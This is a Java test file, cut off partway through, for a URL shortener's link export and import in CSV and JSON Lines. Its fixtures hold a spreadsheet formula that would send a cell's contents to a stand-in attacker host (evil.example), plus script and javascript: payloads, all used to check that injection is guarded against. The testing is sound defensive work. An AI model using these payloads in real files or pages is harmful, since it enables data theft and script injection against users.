package gotourl.porting;

import static org.assertj.core.api.Assertions.assertThat;

import gotourl.CliRun;
import gotourl.link.Link;
import gotourl.store.log.LogLinkStore;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Instant;
import java.util.List;
import java.util.Map;
import java.util.function.Consumer;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * {@code goto export} and {@code goto import} of goto's own formats, end to end through the
 * command line and real data files: a round trip loses nothing, an import run twice changes
 * nothing, conflicts are reported per line and the rest goes in.
 */
class PortingTest {
    @TempDir
    Path dir;

    static CliRun run(String... args) {
        return CliRun.of(Map.of(), args);
    }

    /** Sends {@code json} (or nothing) to goto's REST API with the admin key; the status. */
    private static int rest(gotourl.RunningGoto app, String method, String path, String json) throws Exception {
        java.net.http.HttpRequest.Builder request = java.net.http.HttpRequest.newBuilder(app.uri(path))
                .header("X-Api-Key", gotourl.api.TestApiKeys.ADMIN)
                .method(method, json == null ? java.net.http.HttpRequest.BodyPublishers.noBody()
                        : java.net.http.HttpRequest.BodyPublishers.ofString(json));
        if (json != null) {
            request.header("Content-Type", "application/json");
        }
        return app.send(request.build()).statusCode();
    }

    /** A data file holding links with every field set, made through goto's store. */
    private Path richFile() throws Exception {
        Path data = dir.resolve("source.data");
        try (LogLinkStore store = LogLinkStore.open(data, LogLinkStore.Options.defaults())) {
            store.add("https://example.com/plain").join();
            store.create(gotourl.link.LinkDraft.of("https://example.com/rich?a=1&b=2").withCustomSlug("rich")
                    .withTitle("Sale, \"big\" one <script>alert(1)</script>").withTags(List.of("summer sale", "b|c", "x,y"))
                    .withValidSince(Instant.parse("2026-01-01T00:00:00Z")).withValidUntil(Instant.parse("2027-01-01T12:30:00Z"))
                    .withMaxVisits(10).withCrawlable(true).withForwardQuery(false).withAuthor("k-admin")).join();
            store.create(gotourl.link.LinkDraft.of("https://example.com/random").withShortCodeLength(6)
                    .withTitle("Ünïcödé ✓")).join();
            store.add("https://example.com/second").join();
        }
        return data;
    }

    @Test
    void exportImportExportGivesTheSameContentInBothFormats() throws Exception {
        Path source = richFile();
        for (String format : List.of("jsonl", "csv")) {
            Path first = dir.resolve("first." + format);
            CliRun exported = run("export", "-file=" + source, "-format", format, "-o", first.toString());
            assertThat(exported.exitCode()).as(exported.err()).isZero();
            Path copy = dir.resolve("copy-" + format + ".data");
            CliRun imported = run("import", "-file=" + copy, first.toString());
            assertThat(imported.exitCode()).as(imported.err()).isZero();
            assertThat(imported.out()).contains("imported 4 links").contains("4 added, 0 unchanged, 0 conflicts, 0 invalid")
                    .contains(format.equals("csv") ? "goto's CSV export" : "goto's JSON Lines export");
            CliRun again = run("export", "-file=" + copy, "-format", format);
            assertThat(again.out()).isEqualTo(Files.readString(first, StandardCharsets.UTF_8));
            try (LogLinkStore store = LogLinkStore.open(copy, LogLinkStore.Options.defaults())) {
                Link rich = store.lookup("rich");
                assertThat(rich.title()).as("a title is text, kept as it was, markup and all")
                        .isEqualTo("Sale, \"big\" one <script>alert(1)</script>");
                assertThat(rich.tags()).containsExactly("b|c", "summer-sale", "x,y");
                assertThat(rich.maxVisits()).isEqualTo(10);
                assertThat(rich.forwardQuery()).isFalse();
                assertThat(rich.author()).isEqualTo("k-admin");
                assertThat(store.lookup("a").origin()).as("a counter key stays a key").isEqualTo(Link.CodeOrigin.COUNTER);
                assertThat(store.add("https://example.com/new").join()).as("the counter goes on past the imported keys")
                        .isEqualTo("c");
            }
        }
    }

    @Test
    void redirectRulesTravelInJsonLinesIntoAFileAndThroughTheApi() throws Exception {
        Path source = dir.resolve("source.data");
        try (LogLinkStore store = LogLinkStore.open(source, LogLinkStore.Options.defaults())) {
            String key = store.add("https://example.com/app").join();
            store.setRedirectRules(key, gotourl.store.RedirectRulesFixture.FOUR).join();
            store.create(gotourl.link.LinkDraft.of("https://example.com/slug").withCustomSlug("droid")).join();
            store.setRedirectRules("droid", gotourl.store.RedirectRulesFixture.ANDROID).join();
            store.add("https://example.com/plain").join();
        }
        Path jsonl = dir.resolve("links.jsonl");
        assertThat(run("export", "-file=" + source, "-format", "jsonl", "-o", jsonl.toString()).exitCode()).isZero();
        assertThat(Files.readString(jsonl, StandardCharsets.UTF_8)).contains("\"redirectRules\":[{\"longUrl\":\"https://apps.apple.com/app/id1\","
                + "\"conditions\":[{\"type\":\"device\",\"matchKey\":null,\"matchValue\":\"ios\"}]}");

        Path copy = dir.resolve("copy.data");
        CliRun imported = run("import", "-file=" + copy, jsonl.toString());
        assertThat(imported.out()).as(imported.err()).contains("3 added, 0 unchanged, 0 conflicts, 0 invalid");
        assertThat(run("export", "-file=" + copy, "-format", "jsonl").out()).isEqualTo(Files.readString(jsonl, StandardCharsets.UTF_8));
        try (LogLinkStore store = LogLinkStore.open(copy, LogLinkStore.Options.defaults().withIndexImage(false))) {
            assertThat(store.lookup("a").redirectRules()).as("replayed from the imported records")
                    .isEqualTo(gotourl.store.RedirectRulesFixture.FOUR);
            assertThat(store.lookup("droid").redirectRules()).isEqualTo(gotourl.store.RedirectRulesFixture.ANDROID);
            assertThat(store.redirectIndex().plainEntry("a")).isZero();
            assertThat(store.lookup("b").redirectRules().isEmpty()).isTrue();
        }

        try (gotourl.RunningGoto app = gotourl.RunningGoto.start(gotourl.RunningGoto.config(null),
                (c, m) -> new gotourl.store.MemoryLinkStore(), gotourl.api.TestApiKeys.options())) {
            CliRun overApi = CliRun.of(Map.of("GOTO_API_KEY", gotourl.api.TestApiKeys.ADMIN), "import", "-url",
                    "http://127.0.0.1:" + app.service().appPort(), jsonl.toString());
            assertThat(overApi.out()).as(overApi.err()).contains("3 added, 0 unchanged, 0 conflicts, 0 invalid");
            assertThat(app.service().store().lookup("a").redirectRules()).isEqualTo(gotourl.store.RedirectRulesFixture.FOUR);
            assertThat(app.service().store().lookup("droid").redirectRules()).isEqualTo(gotourl.store.RedirectRulesFixture.ANDROID);
        }

        Path bad = Files.writeString(dir.resolve("bad.jsonl"), "{\"shortCode\": \"x1\", \"longUrl\": \"https://example.com/x\","
                + " \"codeOrigin\": \"slug\", \"redirectRules\": [{\"longUrl\": \"ftp://example.com/\","
                + " \"conditions\": [{\"type\": \"device\", \"matchValue\": \"ios\"}]}]}\n");
        CliRun refused = run("import", "-file=" + dir.resolve("bad.data"), bad.toString());
        assertThat(refused.exitCode()).isEqualTo(1);
        assertThat(refused.err()).contains("redirectRules, rule 1: ");
    }

    /**
     * A JSON line's field of another type than goto's export writes it in was read as its text:
     * {@code "shortCode": 123} made the link {@code 123}, {@code "crawlable": "no"} a link that is
     * not crawlable. Each such line is skipped naming the field and its type, through the API as
     * into a file, and a Kutt list's text fields the same.
     */
    @Test
    void aJsonFieldOfTheWrongTypeSkipsItsLineNamingFieldAndType() throws Exception {
        Path lines = Files.writeString(dir.resolve("typed.jsonl"), String.join("\n",
                "{\"shortCode\": 123, \"longUrl\": \"https://example.com/n\"}",
                "{\"shortCode\": \"t1\", \"longUrl\": \"https://example.com/t\", \"tags\": [\"a\", 1]}",
                "{\"shortCode\": \"c1\", \"longUrl\": \"https://example.com/c\", \"crawlable\": \"no\"}",
                "{\"shortCode\": \"m1\", \"longUrl\": \"https://example.com/m\", \"maxVisits\": \"5\"}",
                "{\"shortCode\": \"a1\", \"longUrl\": \"https://example.com/a\", \"author\": 7}",
                "{\"shortCode\": \"u1\", \"longUrl\": [\"https://example.com/u\"]}",
                "{\"shortCode\": \"ok\", \"longUrl\": \"https://example.com/ok\", \"title\": \"fine\", \"maxVisits\": 5,"
                        + " \"crawlable\": true, \"codeOrigin\": \"slug\"}") + "\n");
        try (gotourl.RunningGoto app = gotourl.RunningGoto.start(gotourl.RunningGoto.config(null),
                (c, m) -> new gotourl.store.MemoryLinkStore(), gotourl.api.TestApiKeys.options())) {
            CliRun overApi = CliRun.of(Map.of("GOTO_API_KEY", gotourl.api.TestApiKeys.ADMIN), "import", "-url",
                    "http://127.0.0.1:" + app.service().appPort(), lines.toString());
            assertThat(overApi.exitCode()).as(overApi.err()).isEqualTo(1);
            assertThat(overApi.out()).contains("1 added, 0 unchanged, 0 conflicts, 6 invalid");
            assertThat(overApi.err()).contains("line 1: skipped: shortCode must be a string, not a number (123)")
                    .contains("line 2: skipped: tags must be a list of strings, not a list that holds a number (1)")
                    .contains("line 3: skipped: crawlable must be true or false, not a string (\"no\")")
                    .contains("line 4: skipped: maxVisits must be a number, not a string (\"5\")")
                    .contains("line 5: skipped: author must be a string, not a number (7)")
                    .contains("line 6: skipped: longUrl must be a string, not an array");
            assertThat(app.service().store().lookup("123")).isNull();
            assertThat(app.service().store().lookup("c1")).isNull();
            assertThat(app.service().store().lookup("ok").maxVisits()).isEqualTo(5);
        }
        CliRun intoFile = run("import", "-file=" + dir.resolve("typed.data"), lines.toString());
        assertThat(intoFile.out()).contains("1 added, 0 unchanged, 0 conflicts, 6 invalid");
        assertThat(intoFile.err()).contains("line 1: skipped: shortCode must be a string, not a number (123)");

        Path kutt = Files.writeString(dir.resolve("kutt.json"), "{\"total\": 2, \"data\": [\n"
                + "{\"address\": 42, \"target\": \"https://example.com/k\", \"created_at\": \"2024-04-01T08:00:00.000Z\"},\n"
                + "{\"address\": \"k2\", \"target\": \"https://example.com/k2\", \"created_at\": \"2024-04-01T08:00:00.000Z\"}\n]}\n");
        CliRun kuttRun = run("import", "-file=" + dir.resolve("kutt.data"), kutt.toString());
        assertThat(kuttRun.out()).contains("1 added, 0 unchanged, 0 conflicts, 1 invalid");
        assertThat(kuttRun.err()).contains("line 2: skipped: address must be a string, not a number (42)");
    }

    /**
     * A JSON number is read by its value, as a CSV cell's text is: {@code "maxVisits": 1e2} was
     * refused as "'100.0' is not a whole number", {@code 99999999999999999999} as not whole where
     * it is too large, and a number date (Unix seconds, as README reads a bare number) was refused
     * once fields were typed, where it had been read; {@code "tags": "a"} said "not string".
     */
    @Test
    void aJsonNumberIsReadByItsValue() throws Exception {
        Path lines = Files.writeString(dir.resolve("numbers.jsonl"), String.join("\n",
                "{\"shortCode\": \"e2\", \"longUrl\": \"https://example.com/e2\", \"maxVisits\": 1e2}",
                "{\"shortCode\": \"d0\", \"longUrl\": \"https://example.com/d0\", \"maxVisits\": 100.0}",
                "{\"shortCode\": \"f1\", \"longUrl\": \"https://example.com/f1\", \"maxVisits\": 1.5}",
                "{\"shortCode\": \"big\", \"longUrl\": \"https://example.com/big\", \"maxVisits\": 99999999999999999999}",
                "{\"shortCode\": \"tg\", \"longUrl\": \"https://example.com/tg\", \"tags\": \"a\"}",
                "{\"shortCode\": \"ds\", \"longUrl\": \"https://example.com/ds\", \"dateCreated\": 1764517200,"
                        + " \"validUntil\": 1893456000000}",
                "{\"shortCode\": \"dy\", \"longUrl\": \"https://example.com/dy\", \"dateCreated\": 2022}",
                "{\"shortCode\": \"db\", \"longUrl\": \"https://example.com/db\", \"validSince\": true}",
                "{\"shortCode\": \"tn\", \"longUrl\": \"https://example.com/tn\", \"tags\": [\"a\", 1]}") + "\n");
        Path data = dir.resolve("numbers.data");
        CliRun imported = run("import", "-file=" + data, lines.toString());
        assertThat(imported.out()).as(imported.err()).contains("3 added, 0 unchanged, 0 conflicts, 6 invalid");
        assertThat(imported.err()).contains("line 3: skipped: maxVisits '1.5' is not a whole number")
                .contains("line 4: skipped: maxVisits '99999999999999999999' is too large (the limit is 2147483647)")
                .contains("line 5: skipped: tags must be a list of strings, not a string (\"a\")")
                .contains("line 7: skipped: dateCreated '2022' is a bare number, not a date")
                .contains("line 8: skipped: validSince must be a string or a number, not a boolean (true)")
                .contains("line 9: skipped: tags must be a list of strings, not a list that holds a number (1)");
        try (LogLinkStore store = LogLinkStore.open(data, LogLinkStore.Options.defaults())) {
            assertThat(store.lookup("e2").maxVisits()).isEqualTo(100);
            assertThat(store.lookup("d0").maxVisits()).isEqualTo(100);
            assertThat(store.lookup("ds").dateCreated()).isEqualTo(java.time.Instant.ofEpochSecond(1764517200));
            assertThat(store.lookup("ds").validUntil()).isEqualTo(java.time.Instant.ofEpochSecond(1893456000));
        }

        Path kutt = Files.writeString(dir.resolve("kutt-numbers.json"), "{\"data\": [\n"
                + "{\"address\": \"k1\", \"target\": \"https://example.com/k1\", \"created_at\": 1764517200},\n"
                + "{\"address\": \"k2\", \"target\": \"https://example.com/k2\", \"created_at\": false}\n]}\n");
        Path kuttData = dir.resolve("kutt-numbers.data");
        CliRun kuttRun = run("import", "-file=" + kuttData, kutt.toString());
        assertThat(kuttRun.out()).as(kuttRun.err()).contains("1 added, 0 unchanged, 0 conflicts, 1 invalid");
        assertThat(kuttRun.err()).contains("line 3: skipped: created_at must be a string or a number, not a boolean (false)");
        try (LogLinkStore store = LogLinkStore.open(kuttData, LogLinkStore.Options.defaults())) {
            assertThat(store.lookup("k1").dateCreated()).isEqualTo(java.time.Instant.ofEpochSecond(1764517200));
        }
    }

    @Test
    void aLinkWhoseRulesTheServerRefusesIsNotLeftThereWithoutThemByAnImportThroughTheApi() throws Exception {
        // The batch created the link, the server then refused its rules (a rule to that goto itself,
        // which only the server can tell), and the link stayed without them: every visitor went to
        // its own long URL, and a second run found it there, counted it unchanged and exited 0.
        try (gotourl.RunningGoto app = gotourl.RunningGoto.start(gotourl.RunningGoto.config(null),
                (c, m) -> new gotourl.store.MemoryLinkStore(), gotourl.api.TestApiKeys.options())) {
            String target = "http://127.0.0.1:" + app.service().appPort();
            String line = "{\"shortCode\": \"get-app\", \"longUrl\": \"https://example.com/app\", \"codeOrigin\": \"slug\","
                    + " \"redirectRules\": [{\"longUrl\": \"%s\", \"conditions\": [{\"type\": \"device\", \"matchValue\": \"ios\"}]}]}%n";
            Path selfRule = Files.writeString(dir.resolve("self.jsonl"), line.formatted(target + "/ios"));
            for (int run = 1; run <= 2; run++) {
                CliRun refused = CliRun.of(Map.of("GOTO_API_KEY", gotourl.api.TestApiKeys.ADMIN), "import", "-url", target,
                        selfRule.toString());
                assertThat(refused.exitCode()).as("run %d: %s", run, refused.err()).isEqualTo(1);
                assertThat(app.service().store().lookup("get-app")).as("run %d: nothing half-stored", run).isNull();
                assertThat(refused.out()).contains("0 added, 0 unchanged, 0 conflicts, 1 invalid");
                assertThat(refused.err()).contains("line 1: skipped: redirectRules: ").contains("is not imported");
            }
            Path fixed = Files.writeString(dir.resolve("fixed.jsonl"), line.formatted("https://apps.apple.com/app/id1"));
            CliRun imported = CliRun.of(Map.of("GOTO_API_KEY", gotourl.api.TestApiKeys.ADMIN), "import", "-url", target,
                    fixed.toString());
            assertThat(imported.out()).as(imported.err()).contains("1 added, 0 unchanged, 0 conflicts, 0 invalid");
            assertThat(app.service().store().lookup("get-app").redirectRules().rules()).hasSize(1);
        }
    }

    @Test
    void aPasswordProtectedLinkIsExportedAsSuchAndSkippedByAnImportRatherThanOpenedToEveryone() throws Exception {
        // The export left the protection out, and the import made the link an ordinary redirect:
        // a link meant for those who know its password redirected anyone after a move.
        Path source = dir.resolve("source.data");
        try (LogLinkStore store = LogLinkStore.open(source, LogLinkStore.Options.defaults())) {
            store.create(gotourl.link.LinkDraft.of("https://example.com/plans").withCustomSlug("plans")
                    .withPasswordHash(gotourl.protect.Passwords.hash("tea at five"))).join();
            store.add("https://example.com/open").join();
        }
        for (String format : List.of("jsonl", "csv")) {
            Path exported = dir.resolve("links." + format);
            assertThat(run("export", "-file=" + source, "-format", format, "-o", exported.toString()).exitCode()).isZero();
            String text = Files.readString(exported, StandardCharsets.UTF_8);
            assertThat(text).as(format).contains(format.equals("csv") ? ",true\r\n" : "\"passwordProtected\":true")
                    .doesNotContain("tea at five").doesNotContain("$argon2");
            Path copy = dir.resolve("copy-" + format + ".data");
            CliRun imported = run("import", "-file=" + copy, exported.toString());
            assertThat(imported.exitCode()).as("a skipped line makes the import exit 1").isEqualTo(1);
            assertThat(imported.err()).contains(": skipped: the link 'plans' is password-protected, and no export carries its"
                    + " password; create it again with one");
            assertThat(imported.out()).contains("1 added").contains("1 invalid");
            try (LogLinkStore store = LogLinkStore.open(copy, LogLinkStore.Options.defaults())) {
                assertThat(store.lookup("plans")).as("not imported as an open redirect").isNull();
                assertThat(store.longUrlOf("a")).isEqualTo("https://example.com/open");
            }
        }
        Path kutt = Files.writeString(dir.resolve("kutt.json"), """
                {"data": [{"address": "secret", "target": "https://example.com/k", "password": true},
                          {"address": "open", "target": "https://example.com/o", "password": false}]}
                """);
        CliRun fromKutt = run("import", "-file=" + dir.resolve("kutt.data"), kutt.toString());
        assertThat(fromKutt.err()).contains("the link 'secret' is password-protected");
        assertThat(fromKutt.out()).contains("1 added");
    }

    @Test
    void keysComeBackInTheCounterOrderWhateverTheirSpelling() throws Exception {
        Path source = dir.resolve("many.data");
        try (LogLinkStore store = LogLinkStore.open(source, LogLinkStore.Options.defaults())) {
            for (int i = 0; i < 200; i++) { // past 'z', 'Z' and '9': keys whose spelling sorts apart from their counter
                store.add("https://example.com/" + i).join();
            }
        }
        Path export = dir.resolve("many.jsonl");
        assertThat(run("export", "-file=" + source, "-o", export.toString()).exitCode()).isZero();
        CliRun imported = run("import", "-file=" + dir.resolve("copy.data"), export.toString());
        assertThat(imported.out()).as(imported.err()).contains("200 added, 0 unchanged, 0 conflicts, 0 invalid");
    }

    /**
     * A user's trial, as it went: a fresh goto on a data file; {@code /add} gives 'a'; the REST API
     * creates the custom slug 'c' (the counter skips it); {@code /add} gives 'b', then 'd'; 'c' is
     * deleted and claimed again. The export lists 'd' before the newer 'c', and the import took the
     * counter's move past 'd' for 'c' having been handed out: "line 4: skipped: 'c' is a key goto's
     * counter has already handed out", exit 1, 'c' lost. Each export must restore whole into an
     * empty file, and into an empty running goto through the API.
     */
    @Test
    void aCustomSlugDeletedAndClaimedAgainAfterNewerKeysIsRestoredFromTheExport() throws Exception {
        Path source = dir.resolve("X.data");
        try (gotourl.RunningGoto app = gotourl.RunningGoto.start(gotourl.RunningGoto.config(source),
                gotourl.GotoService.defaultStoreOpener(java.time.Clock.systemUTC()), gotourl.api.TestApiKeys.options())) {
            assertThat(app.addKey("https://example.com/a")).isEqualTo("a");
            assertThat(rest(app, "POST", "/rest/v3/short-urls", "{\"longUrl\": \"https://example.com/c\", \"customSlug\": \"c\"}"))
                    .isEqualTo(200);
            assertThat(app.addKey("https://example.com/b")).isEqualTo("b");
            assertThat(app.addKey("https://example.com/d")).as("the counter skips the slug").isEqualTo("d");
            assertThat(rest(app, "DELETE", "/rest/v3/short-urls/c", null)).isEqualTo(204);
            assertThat(rest(app, "POST", "/rest/v3/short-urls", "{\"longUrl\": \"https://example.com/c2\", \"customSlug\": \"c\"}"))
                    .as("a deleted custom slug may be claimed again").isEqualTo(200);
            assertThat(app.shutdown()).isTrue();
        }
        for (String format : List.of("jsonl", "csv")) {
            Path export = dir.resolve("X." + format);
            CliRun exported = run("export", "-file=" + source, "-format", format, "-o", export.toString());
            assertThat(exported.exitCode()).as(exported.err()).isZero();
            Path fresh = dir.resolve("fresh-" + format + ".data");
            CliRun imported = run("import", "-file=" + fresh, export.toString());
            assertThat(imported.err()).doesNotContain("skipped");
            assertThat(imported.exitCode()).as(imported.err()).isZero();
            assertThat(imported.out()).contains("4 added, 0 unchanged, 0 conflicts, 0 invalid");
            assertThat(run("export", "-file=" + fresh, "-format", format).out()).as("the copy exports as the source did")
                    .isEqualTo(Files.readString(export, StandardCharsets.UTF_8));
            try (LogLinkStore copy = LogLinkStore.open(fresh, LogLinkStore.Options.defaults())) {
                assertThat(copy.lookup("c").origin()).isEqualTo(Link.CodeOrigin.CUSTOM_SLUG);
                assertThat(copy.longUrlOf("c")).isEqualTo("https://example.com/c2");
                assertThat(copy.lookup("d").origin()).isEqualTo(Link.CodeOrigin.COUNTER);
                assertThat(copy.add("https://example.com/e").join()).as("the counter goes on as the source's would").isEqualTo("e");
                copy.delete("c").join();
                assertThat(copy.create(gotourl.link.LinkDraft.of("https://example.com/c3").withCustomSlug("c")).join().shortCode())
                        .as("still a custom slug, which may be claimed again").isEqualTo("c");
            }
        }
        try (gotourl.RunningGoto empty = gotourl.RunningGoto.start(gotourl.RunningGoto.config(null),
                (c, m) -> new gotourl.store.MemoryLinkStore(), gotourl.api.TestApiKeys.options())) {
            CliRun overApi = CliRun.of(Map.of("GOTO_API_KEY", gotourl.api.TestApiKeys.ADMIN), "import", "-url",
                    "http://127.0.0.1:" + empty.service().appPort(), dir.resolve("X.jsonl").toString());
            assertThat(overApi.exitCode()).as(overApi.err()).isZero();
            assertThat(overApi.out()).contains("4 added, 0 unchanged, 0 conflicts, 0 invalid");
            assertThat(empty.service().store().longUrlOf("c")).isEqualTo("https://example.com/c2");
        }
    }

    /**
     * A file that imported older links holds keys whose dates run against the counter: its own
     * 'a' is newer than the imported 'b' and 'c', and its export lists 'a' last. Restored into an
     * empty file, 'a' came after the counter had passed it for 'c', and was refused.
     */
    @Test
    void anExportWhoseKeysRunAgainstTheirDatesIsRestoredWhole() throws Exception {
        Path data = dir.resolve("goto.data");
        try (LogLinkStore store = LogLinkStore.open(data, LogLinkStore.Options.defaults())) {
            store.add("https://example.com/mine").join();
        }
        Path old = Files.writeString(dir.resolve("old.jsonl"),
                "{\"shortCode\":\"b\",\"longUrl\":\"https://example.com/b\",\"codeOrigin\":\"counter\","
                        + "\"dateCreated\":\"2020-01-01T00:00:00+00:00\"}\n"
                        + "{\"shortCode\":\"c\",\"longUrl\":\"https://example.com/c\",\"codeOrigin\":\"counter\","
                        + "\"dateCreated\":\"2020-01-02T00:00:00+00:00\"}\n");
        CliRun merged = run("import", "-file=" + data, old.toString());
        assertThat(merged.exitCode()).as(merged.err()).isZero();
        Path export = dir.resolve("merged.jsonl");
        assertThat(run("export", "-file=" + data, "-o", export.toString()).exitCode()).isZero();
        List<String> lines = Files.readAllLines(export);
        assertThat(lines.get(lines.size() - 2)).as("the last link, before the end record").startsWith("{\"shortCode\":\"a\"");

        CliRun restored = run("import", "-file=" + dir.resolve("restored.data"), export.toString());
        assertThat(restored.exitCode()).as(restored.err()).isZero();
        assertThat(restored.out()).contains("3 added, 0 unchanged, 0 conflicts, 0 invalid");
        assertThat(run("export", "-file=" + dir.resolve("restored.data")).out()).isEqualTo(Files.readString(export));
    }

    /**
     * Into a file with links of its own, an export's keys and slugs go in wherever that file's
     * counter never handed them out, in whatever order; a key it did hand out (its link deleted
     * since) is refused to the export's link, be it a key or a custom slug there.
     */
    @Test
    void intoAFileWithLinksOnlyTheKeysItsOwnCounterHandedOutAreRefused() throws Exception {
        Path source = dir.resolve("source.data");
        try (LogLinkStore store = LogLinkStore.open(source, LogLinkStore.Options.defaults())) {
            store.add("https://example.com/a").join();                                                    // a
            store.add("https://example.com/b").join();                                                    // b
            store.create(gotourl.link.LinkDraft.of("https://example.com/d").withCustomSlug("d")).join();  // the counter skips d
            store.add("https://example.com/c").join();                                                    // c
            store.add("https://example.com/e").join();                                                    // e
            store.delete("d").join();
            store.create(gotourl.link.LinkDraft.of("https://example.com/d2").withCustomSlug("d")).join();
        }
        Path export = dir.resolve("source.jsonl");
        assertThat(run("export", "-file=" + source, "-o", export.toString()).exitCode()).isZero();
        Path target = dir.resolve("target.data");
        try (LogLinkStore store = LogLinkStore.open(target, LogLinkStore.Options.defaults())) {
            store.add("https://example.com/mine").join();    // a
            store.add("https://example.com/gone").join();    // b, deleted below
            store.add("https://example.com/gone-too").join(); // c, deleted below
            store.delete("b").join();
            store.delete("c").join();
        }
        CliRun imported = run("import", "-file=" + target, export.toString());
        assertThat(imported.exitCode()).isEqualTo(1);
        assertThat(imported.err()).contains("line 1: skipped: the short code 'a' is in use by a link to https://example.com/mine")
                .contains("line 2: skipped: 'b' is a key this goto's counter has already handed out")
                .contains("line 3: skipped: 'c' is a key this goto's counter has already handed out")
                .doesNotContain("line 4:").doesNotContain("line 5:");
        assertThat(imported.out()).contains("2 added, 0 unchanged, 3 conflicts, 0 invalid");
        try (LogLinkStore store = LogLinkStore.open(target, LogLinkStore.Options.defaults())) {
            assertThat(store.longUrlOf("b")).as("a deleted key points nowhere new").isNull();
            assertThat(store.longUrlOf("e")).isEqualTo("https://example.com/e");
            assertThat(store.lookup("d").origin()).isEqualTo(Link.CodeOrigin.CUSTOM_SLUG);
            assertThat(store.longUrlOf("d")).isEqualTo("https://example.com/d2");
            assertThat(store.add("https://example.com/next").join()).isEqualTo("f");
        }
        Files.writeString(export, "{\"shortCode\":\"c\",\"longUrl\":\"https://example.com/other\",\"codeOrigin\":\"slug\"}\n");
        CliRun asSlug = run("import", "-file=" + target, export.toString());
        assertThat(asSlug.err()).as("nor does a deleted key become a custom slug")
                .contains("line 1: skipped: 'c' is a key goto's counter has already handed out");
    }

    @Test
    void csvQuotesCommasQuotesAndLineBreaks() throws Exception {
        Path source = richFile();
        CliRun exported = run("export", "-file=" + source, "-format=csv");
        assertThat(exported.out()).contains("\"Sale, \"\"big\"\" one <script>alert(1)</script>\"")
                .contains("\"[\"\"b|c\"\",\"\"summer-sale\"\",\"\"x,y\"\"]\"");
        // A foreign CSV whose title spans lines, as a page title scraped with its line breaks.
        Path csv = Files.writeString(dir.resolve("in.csv"), "keyword,url,title,timestamp,ip,clicks\r\n"
                + "multi,https://example.com/m,\"First line,\r\nsecond \"\"line\"\"\",2024-03-01 10:00:00,127.0.0.1,3\r\n"
                + "after,https://example.com/after,plain,2024-03-02 10:00:00,127.0.0.1,0\r\n");
        Path data = dir.resolve("goto.data");
        CliRun imported = run("import", "-file=" + data, csv.toString());
        assertThat(imported.exitCode()).as(imported.err()).isZero();
        try (LogLinkStore store = LogLinkStore.open(data, LogLinkStore.Options.defaults())) {
            assertThat(store.lookup("multi").title()).isEqualTo("First line, second \"line\"");
            assertThat(store.lookup("after").dateCreated()).isEqualTo(Instant.parse("2024-03-02T10:00:00Z"));
        }
        CliRun lines = run("export", "-file=" + data, "-format=csv");
        assertThat(lines.out().split("\r\n")).hasSize(3);
    }

    @Test
    void csvCellsThatASpreadsheetWouldRunAsFormulasAreGuardedAndReadBackAsTheyWere() throws Exception {
        // A title, slug or author starting with = + - @ went into the CSV as it was: opened in a
        // spreadsheet, =HYPERLINK(...) ran as a formula (OWASP's CSV injection).
        Path source = dir.resolve("source.data");
        Map<String, String> titles = Map.of("-sale", "=HYPERLINK(\"https://evil.example/?\"&A1,\"open\")", "plus", "+1 for this",
                "at", "@here: read me", "quoted", "'=already quoted", "tis", "'tis the season", "plain", "Plain - title");
        try (LogLinkStore store = LogLinkStore.open(source, LogLinkStore.Options.defaults())) {
            for (Map.Entry<String, String> link : new java.util.TreeMap<>(titles).entrySet()) {
                store.create(gotourl.link.LinkDraft.of("https://example.com/" + link.getKey()).withCustomSlug(link.getKey())
                        .withTitle(link.getValue()).withTags(List.of("=tag")).withAuthor("@ops")).join();
            }
        }
        Path first = dir.resolve("first.csv");
        CliRun exported = run("export", "-file=" + source, "-format=csv", "-o", first.toString());
        assertThat(exported.exitCode()).as(exported.err()).isZero();
        List<String> cells = new java.util.ArrayList<>();
        try (var parser = org.apache.commons.csv.CSVFormat.RFC4180.parse(Files.newBufferedReader(first))) {
            parser.forEach(record -> cells.addAll(record.toList()));
        }
        assertThat(cells).as("no cell starts as a formula").noneMatch(cell -> !cell.isEmpty() && "=+-@\t\r".indexOf(cell.charAt(0)) >= 0);
        assertThat(cells).contains("'-sale", "'=HYPERLINK(\"https://evil.example/?\"&A1,\"open\")", "'+1 for this",
                "'@here: read me", "''=already quoted", "'tis the season", "Plain - title", "'@ops");

        Path copy = dir.resolve("copy.data");
        CliRun imported = run("import", "-file=" + copy, first.toString());
        assertThat(imported.out()).as(imported.err()).contains("6 added, 0 unchanged, 0 conflicts, 0 invalid");
        try (LogLinkStore store = LogLinkStore.open(copy, LogLinkStore.Options.defaults())) {
            for (Map.Entry<String, String> link : titles.entrySet()) {
                Link back = store.lookup(link.getKey());
                assertThat(back).as(link.getKey()).isNotNull();
                assertThat(back.title()).as(link.getKey()).isEqualTo(link.getValue());
                assertThat(back.author()).isEqualTo("@ops");
                assertThat(back.tags()).containsExactly("=tag");
            }
        }
        assertThat(run("export", "-file=" + copy, "-format=csv").out()).isEqualTo(Files.readString(first, StandardCharsets.UTF_8));
    }

    @Test
    void importingTwiceChangesNothing() throws Exception {
        Path source = richFile();
        Path export = dir.resolve("links.jsonl");
        run("export", "-file=" + source, "-o", export.toString());
        Path data = dir.resolve("goto.data");
        assertThat(run("import", "-file=" + data, export.toString()).exitCode()).isZero();
        long bytes = Files.size(data);
        CliRun second = run("import", "-file=" + data, export.toString());
        assertThat(second.exitCode()).as(second.err()).isZero();
        assertThat(second.out()).contains("imported 0 links").contains("0 added, 4 unchanged, 0 conflicts, 0 invalid");
        assertThat(Files.size(data)).as("nothing written the second time").isEqualTo(bytes);
    }

    @Test
    void conflictsAndInvalidLinesAreReportedWithTheirLinesAndTheRestGoesIn() throws Exception {
        Path data = dir.resolve("goto.data");
        try (LogLinkStore store = LogLinkStore.open(data, LogLinkStore.Options.defaults())) {
            store.create(gotourl.link.LinkDraft.of("https://example.com/taken").withCustomSlug("taken")).join();
        }
        Path input = Files.writeString(dir.resolve("in.jsonl"), String.join("\n",
                "{\"shortCode\":\"taken\",\"longUrl\":\"https://example.com/other\"}",
                "{\"shortCode\":\"fine\",\"longUrl\":\"https://example.com/fine\",\"dateCreated\":\"2020-05-06T07:08:09+00:00\"}",
                "{\"shortCode\":\"admin\",\"longUrl\":\"https://example.com/reserved\"}",
                "{\"shortCode\":\"bad\",\"longUrl\":\"javascript:alert(1)\"}",
                "{\"shortCode\":\"self\",\"longUrl\":\"http://localhost:3000/a\"}",
                "not json",
                "{\"shortCode\":\"late\",\"longUrl\":\"https://example.com/late\",\"dateCreated\":\"yesterday\"}",
